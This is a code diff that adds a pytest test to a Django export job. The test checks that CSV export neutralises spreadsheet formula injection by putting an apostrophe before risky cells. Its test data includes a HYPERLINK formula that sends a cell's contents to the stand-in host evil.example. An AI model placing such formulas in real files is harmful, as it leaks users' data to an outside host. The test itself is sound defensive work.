@@ -180,3 +180,23 @@ def test_export_everything_records_the_confidential_rows_of_its_snapshot_once_it
     assert result["confidential_rows"] == 2
     assert readings(secret, secret_task, internal) == [(secret, owner, "export"), (secret_task, owner, "export")]
     assert reading_entries(secret)[0].data == {"surface": "export", "job": run.job.pk}
+
+
+@pytest.mark.django_db
+def test_export_everything_writes_formula_text_with_an_apostrophe_first(settings, tmp_path):
+    settings.MEDIA_ROOT = str(tmp_path)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    person = PersonFactory(family_name_latin=formula, given_name_latin="+81 3 1234 5678", notes="-2+3")
+
+    result = export_everything(JobRun(claimed_export_job()))
+
+    with default_storage.open(result["file"]) as handle, zipfile.ZipFile(handle) as archive:
+        with archive.open("contacts.Person.csv") as raw:
+            rows = list(csv.reader(io.TextIOWrapper(raw, encoding="utf-8-sig", newline="")))
+    headers, row = rows[0], next(row for row in rows[1:] if row[0] == str(person.pk))
+    assert [row[headers.index(name)] for name in ("family_name_latin", "given_name_latin", "notes")] == [
+        "'" + formula,
+        "'+81 3 1234 5678",
+        "'-2+3",
+    ]
+    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
